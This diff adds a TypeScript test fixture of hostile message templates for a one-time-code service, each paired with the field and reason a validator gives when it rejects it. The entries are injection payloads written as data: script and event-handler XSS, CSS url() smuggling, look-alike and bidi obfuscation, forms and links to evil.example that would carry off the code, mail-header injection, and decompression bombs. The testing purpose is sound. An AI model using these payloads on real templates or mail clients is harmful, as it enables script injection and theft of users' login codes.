@@ -1,0 +1,330 @@
+/** Templates that somebody could send who wants more of a message than that it is read. Each has the field that refuses it, and why. */
+export interface HostileTemplate {
+  readonly name: string;
+  /** `email` unless it says otherwise. */
+  readonly channel?: "email" | "sms" | "voice" | "whatsapp";
+  /** Replaces what a good template has. */
+  readonly change: Readonly<Record<string, unknown>>;
+  readonly field: string;
+  /** What the reason contains. */
+  readonly reason: string;
+}
+
+const html = (name: string, source: string, reason: string): HostileTemplate => ({
+  name,
+  change: { html: `<p>{{code}}</p>\n${source}` },
+  field: "html",
+  reason,
+});
+const text = (name: string, source: string, reason: string): HostileTemplate => ({
+  name,
+  change: { text: `Your code is {{code}}.\n${source}` },
+  field: "text",
+  reason,
+});
+const subject = (name: string, source: string, reason: string): HostileTemplate => ({
+  name,
+  change: { subject: source },
+  field: "subject",
+  reason,
+});
+
+const png = (bytes: string) => Buffer.from(bytes, "latin1").toString("base64");
+const elsewhere = 'a picture from elsewhere: the only one is <img src="cid:logo">';
+const addresses = "must not contain a web address or a mail address";
+const references = "must contain characters themselves";
+const unreadable =
+  "must not contain control characters, or characters that are invisible or change the direction of writing";
+const form = 'in the form name="value"';
+
+export const hostileTemplates: readonly HostileTemplate[] = [
+  // Something that is executed.
+  html("a script", "<script>alert(1)</script>", "must not contain <script> (line 2)"),
+  html("a script in upper case", "<SCRIPT>alert(1)</SCRIPT>", "must not contain <script>"),
+  html("a script whose name another one interrupts", "<scr<script>ipt>", "must not contain <scr>"),
+  html("a script after a control character", "<\u0001script>alert(1)</script>", "must have &lt; in place of a <"),
+  html("an event handler", '<p onclick="alert(1)">x</p>', "must not contain the attribute onclick in <p>"),
+  html("an event handler after a slash", "<p/onmouseover=alert(1)>x</p>", "must close <p> with </p>"),
+  html(
+    "an event handler of a picture",
+    '<img src="cid:logo" alt="" onerror="alert(1)">',
+    "the attribute onerror in <img>",
+  ),
+  html("an event handler without quotes", "<b onload=alert(1)>x</b>", "the attribute onload in <b>"),
+  html(
+    "an event handler that a quote in a value begins",
+    `<p lang="en" x='"onclick="alert(1)'>x</p>`,
+    "the attribute x in <p>",
+  ),
+  html("an attribute of a framework", '<p @click="alert(1)">x</p>', "the attribute @click in <p>"),
+  html("SVG", '<svg onload="alert(1)"></svg>', "must not contain <svg>"),
+  html("MathML that becomes a script", "<math><mtext><table><mglyph><style>", "must not contain <math>"),
+  html("a template element", "<template><b>x</b></template>", "must not contain <template>"),
+  html("noscript", "<noscript><p>x</p></noscript>", "must not contain <noscript>"),
+  html("a plug-in", '<object data="x"></object>', "must not contain <object>"),
+  html("an expression of CSS", '<p style="width: expression(alert(1))">x</p>', "this value of the style width"),
+  html("a behaviour of CSS", '<p style="behavior: url(x.htc)">x</p>', "the style behavior"),
+  html("a binding of CSS", '<p style="-moz-binding: url(x)">x</p>', "the style -moz-binding"),
+  // Something that is loaded from elsewhere.
+  html("a remote picture", '<img src="https://evil.example/x.png" alt="">', elsewhere),
+  html("a picture without a scheme", '<img src="//evil.example/x.png" alt="">', elsewhere),
+  html("a picture in data", '<img src="data:image/svg+xml;base64,AAAA" alt="">', elsewhere),
+  html("another part of the mail", '<img src="cid:other" alt="">', elsewhere),
+  html(
+    "pictures by size",
+    '<img src="cid:logo" srcset="https://evil.example/x 2x" alt="">',
+    "the attribute srcset in <img>",
+  ),
+  html("a background", '<table background="https://evil.example/x"></table>', "the attribute background in <table>"),
+  html("a background of CSS", '<p style="background: url(https://evil.example/x)">x</p>', "the style background"),
+  html(
+    "an address in an allowed property",
+    '<p style="background-color: url(x)">x</p>',
+    "this value of the style background-color",
+  ),
+  html("an address behind an escape", String.raw`<p style="color: u\72l(x)">x</p>`, "this value of the style color"),
+  html("an address behind a comment", '<p style="color: red/**/url(x)">x</p>', "this value of the style color"),
+  html(
+    "a picture as a list's bullet",
+    '<ul style="list-style-image: url(x)"><li>x</li></ul>',
+    "the style list-style-image",
+  ),
+  html(
+    "a style element with an import",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "must not contain <style>",
+  ),
+  html("a linked style sheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "must not contain <link>"),
+  html("a remote font", "<p style=\"font-family: 'x', url(x)\">x</p>", "this value of the style font-family"),
+  html("a frame", '<iframe src="https://evil.example"></iframe>', "must not contain <iframe>"),
+  html("a refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example">', "must not contain <meta>"),
+  html("another base", '<base href="https://evil.example/">', "must not contain <base>"),
+  html("a video", '<video poster="https://evil.example/x"></video>', "must not contain <video>"),
+  html("a sound", '<audio src="https://evil.example/x"></audio>', "must not contain <audio>"),
+  html("VML for Outlook", '<v:rect><v:fill src="https://evil.example/x"/></v:rect>', "must not contain <v:rect>"),
+  // Something that leads the reader elsewhere, or asks for something.
+  html("a link", '<a href="https://evil.example">x</a>', "must not contain <a>"),
+  html("a link that runs a script", '<a href="javascript:alert(1)">x</a>', "must not contain <a>"),
+  html("a form", '<form action="https://evil.example"><input name="code"></form>', "must not contain <form>"),
+  html("a field to type into", '<input type="password">', "must not contain <input>"),
+  html("a button", "<button>x</button>", "must not contain <button>"),
+  html("an image map", '<map name="x"></map>', "must not contain <map>"),
+  html("an address that two elements share", "<p>https:/<b>/evil</b>.example</p>", addresses),
+  html("an address in the text of the logo", '<img src="cid:logo" alt="https://evil.example">', addresses),
+  text("a web address", "Open https://evil.example/login", addresses),
+  text("a web address without a scheme", "Open evil.example/login", addresses),
+  text("a mail address", "Write to help@evil.example", addresses),
+  text("a web address with look-alike signs", "Open https：／／evil。example／x", addresses),
+  text("a web address in percents", "Open https%3A%2F%2Fevil.example", addresses),
+  // Placeholders where they would do something else.
+  html("a placeholder in an attribute", '<p lang="{{code}}">x</p>', "placeholders in attributes, as in lang"),
+  html("a placeholder in a style", '<p style="color: {{brand}}">x</p>', "placeholders in attributes, as in style"),
+  html(
+    "a placeholder in the text of the logo",
+    '<img src="cid:logo" alt="{{brand}}">',
+    "placeholders in attributes, as in alt",
+  ),
+  html("a placeholder as an element", "<{{brand}}>", "must have &lt; in place of a <"),
+  text("a placeholder in a web address", "Open https://evil.example/{{code}}", addresses),
+  text("a placeholder that makes a web address", "Open {{brand}}/{{code}}", addresses),
+  text("a placeholder that makes a host", "Open https://{{brand}}", addresses),
+  text("a line that fills the code in elsewhere", "@evil #{{code}}", "must have no line that begins with @"),
+  text("the same with a placeholder", "@{{brand}} #{{code}}", addresses),
+  text("an unknown placeholder", "{{password}}", "has an unknown placeholder {{password}}"),
+  text("an expression", "{{7*7}}", "must have no {{ or }} except in these placeholders"),
+  text(
+    "a helper of a template language",
+    "{{#each brand}}x{{/each}}",
+    "must have no {{ or }} except in these placeholders",
+  ),
+  text("a placeholder in a placeholder", "{{co{{code}}de}}", "must have no {{ or }} except in these placeholders"),
+  html(
+    "a placeholder that two elements share",
+    "<p>{{co<b>de}}</b></p>",
+    "must have no {{ or }} except in these placeholders",
+  ),
+  text("a payee without an amount", "To {{payee}}", "must contain both {{payee}} and {{amount}}"),
+  { name: "no code in the text", change: { text: "Hello {{brand}}" }, field: "text", reason: "must contain {{code}}" },
+  { name: "no code in the HTML", change: { html: "<p>Hello</p>" }, field: "html", reason: "must contain {{code}}" },
+  subject("the code in the subject", "Your code is {{code}}", "subjects are shown on locked screens"),
+  // Entity tricks.
+  html("a character by its number", "<p>&#106;avascript</p>", references),
+  html("a character by its number in sixteens", "<p>&#x6A;</p>", references),
+  html("a character without its semicolon", "<p>&#106avascript</p>", references),
+  html("a character by a rare name", "<p>javascript&colon;x</p>", references),
+  html("braces by their names", "<p>&lbrace;&lbrace;code&rbrace;&rbrace;</p>", references),
+  html("a reference to a reference", "<p>&amp;#106;</p>", references),
+  html("a reference in an attribute", '<p lang="&#101;n">x</p>', "character references in the attribute lang"),
+  html("an ampersand alone", "<p>a & b</p>", references),
+  text("a reference in the plain text", "&lt;script&gt;", references),
+  html("an entity of its own", '<!DOCTYPE x [<!ENTITY y "z">]>', "must not contain comments or declarations"),
+  // What programs read in different ways.
+  html("a comment", "<!-- x -->", "must not contain comments or declarations"),
+  html("a condition for Outlook", "<!--[if mso]><p>x</p><![endif]-->", "must not contain comments or declarations"),
+  html("a comment that ends early", "<!--><script>alert(1)</script>-->", "must not contain comments or declarations"),
+  html("CDATA", "<![CDATA[<script>]]>", "must not contain comments or declarations"),
+  html("an instruction", "<?php echo 1 ?>", "must not contain comments or declarations"),
+  html("a page of its own", "<html><body><p>x</p></body></html>", "must not contain <html>"),
+  html("an end that was not begun", "</td></tr></table>", "must not close <td> here"),
+  html("elements that overlap", "<b><i>x</b></i>", "must not close <b> here: <i> has to be closed first"),
+  html("an element that is left open", "<div><p>x</p>", "must close <div> (line 2)"),
+  html("a paragraph that a block would end", "<p><table></table></p>", "must not have <table> directly in <p>"),
+  html(
+    "text that a table would throw out",
+    "<table>x<tr><td>y</td></tr></table>",
+    "must not have text directly in <table>",
+  ),
+  html("an attribute twice", '<p lang="en" lang="fr">x</p>', "must not repeat the attribute lang"),
+  html("an attribute without quotes", "<p lang=en>x</p>", form),
+  html("an attribute in backticks", "<p lang=`en`>x</p>", form),
+  html("a start that does not end", '<p lang="en', form),
+  html("raw text", "<xmp><p>x</p></xmp>", "must not contain <xmp>"),
+  html("text for ever", "<plaintext>", "must not contain <plaintext>"),
+  html(
+    "a thousand elements in each other",
+    `${"<div>".repeat(1_000)}${"</div>".repeat(1_000)}`,
+    "in more than 32 others",
+  ),
+  html(
+    "a cell of a million columns",
+    '<table><tr><td colspan="1000000">x</td></tr></table>',
+    "this value of the attribute colspan",
+  ),
+  html("a text that lies over others", '<p style="position: fixed">x</p>', "the style position"),
+  html("a text that nobody sees", '<p style="display: none">x</p>', "this value of the style display"),
+  html("a class of the server's page", '<p class="code">x</p>', "the attribute class in <p>"),
+  // Bidi, and what cannot be seen.
+  html("an override of the direction", "<p>\u202e321\u202c</p>", unreadable),
+  html("an override of the direction by its name", "<p>&rlo;</p>", references),
+  html("an element that overrides the direction", '<bdo dir="rtl">x</bdo>', "must not contain <bdo>"),
+  html("an isolate", "<p>\u2067x\u2069</p>", unreadable),
+  html("CSS that overrides the direction", '<p style="unicode-bidi: bidi-override">x</p>', "the style unicode-bidi"),
+  text("an override of the direction in the text", "\u202eevil\u202c", unreadable),
+  text("an invisible character", "e\u200bvil", unreadable),
+  text("a line break that only some programs know", "a\u2028b", unreadable),
+  text("a bell", "a\u0007b", unreadable),
+  subject("an override of the direction in the subject", "\u202eedoc ruoY", unreadable),
+  subject("a header in the subject", "Your code\r\nBcc: eve@evil.example", "must be one line"),
+  subject("an encoded word in the subject", "=?utf-8?B?aHR0cHM6Ly9ldmls?=", addresses),
+  // Too much.
+  {
+    name: "100 KB of HTML",
+    change: { html: `<p>{{code}}</p>${"<p>x</p>".repeat(12_800)}` },
+    field: "html",
+    reason: "must be at most 65536 characters",
+  },
+  {
+    name: "100 KB of HTML in 35,000 characters",
+    change: { html: `<p>{{code}} ${"字 ".repeat(30_000)}</p>` },
+    field: "html",
+    reason: "must be at most 64 KiB",
+  },
+  {
+    name: "100 KB of text",
+    change: { text: `{{code}} ${"x ".repeat(51_200)}` },
+    field: "text",
+    reason: "must be at most 4000 characters",
+  },
+  text("a word without end", "x".repeat(600), "must have a space at least every 500 characters"),
+  text("a value many times", "{{brand}} ".repeat(60), "must have at most 50 placeholders"),
+  {
+    name: "a text message in too many parts",
+    channel: "sms",
+    change: { text: `{{code}} ${"word ".repeat(100)}` },
+    field: "text",
+    reason: "must fit into 3 parts",
+  },
+  {
+    name: "a text message that one letter makes longer",
+    channel: "sms",
+    change: { text: `{{code}} ж ${"word ".repeat(40)}` },
+    field: "text",
+    reason: "must fit into 3 parts",
+  },
+  {
+    name: "a text message that the brand makes longer",
+    channel: "sms",
+    change: { text: `{{code}} ${"{{brand}} ".repeat(12)}` },
+    field: "text",
+    reason: "must fit into 3 parts",
+  },
+  {
+    name: "a subject for a text message",
+    channel: "sms",
+    change: { text: "{{code}}", subject: "x" },
+    field: "subject",
+    reason: "must not be set: only mail has it",
+  },
+  {
+    name: "a script for a voice",
+    channel: "voice",
+    change: { text: '<speak><audio src="x"/>{{code}}</speak>' },
+    field: "text",
+    reason: "must not contain < or >",
+  },
+  {
+    name: "a call that does not end",
+    channel: "voice",
+    change: { text: `{{code}} ${"word ".repeat(200)}` },
+    field: "text",
+    reason: "must be at most 500 characters for a call",
+  },
+  {
+    name: "WhatsApp",
+    channel: "whatsapp",
+    change: { text: "{{code}}" },
+    field: "channel",
+    reason: "must be one of: email, sms, voice",
+  },
+  // Pictures.
+  {
+    name: "an SVG as the logo",
+    change: { logo: png("<svg onload='alert(1)'/>".padEnd(100)) },
+    field: "logo",
+    reason: "must be a PNG or a JPEG",
+  },
+  {
+    name: "a GIF as the logo",
+    change: { logo: png(`GIF89a${"\0".repeat(100)}`) },
+    field: "logo",
+    reason: "must be a PNG or a JPEG",
+  },
+  {
+    name: "HTML with the signature of a PNG",
+    change: { logo: png(`\x89PNG\r\n\x1a\n<script>${" ".repeat(100)}`) },
+    field: "logo",
+    reason: "must be a PNG or a JPEG",
+  },
+  {
+    name: "a PNG that unpacks to gigabytes",
+    change: {
+      logo: png(`\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x01\0\0\0\x01\0\0${"\0".repeat(40)}\0\0\0\0IEND\xae\x42\x60\x82`),
+    },
+    field: "logo",
+    reason: "must be at most 2000 pixels",
+  },
+  {
+    name: "a logo of 100 KB",
+    change: { logo: png("x".repeat(102_400)) },
+    field: "logo",
+    reason: "must be at most",
+  },
+  {
+    name: "text that nobody can read",
+    change: { background_color: "#ffffff", text_color: "#eeeeee" },
+    field: "text_color",
+    reason: "must have a contrast of at least 4.5 with the background: it has 1.1",
+  },
+  {
+    name: "CSS in a color",
+    change: { accent_color: "red;x:url(y)" },
+    field: "accent_color",
+    reason: "must be at most 7 characters",
+  },
+];
+
+/** A template that is accepted. */
+export const goodTemplate = {
+  subject: "Your {{brand}} code",
+  text: "Your {{brand}} code is {{code}}. It expires in {{time}}.",
+} as const;
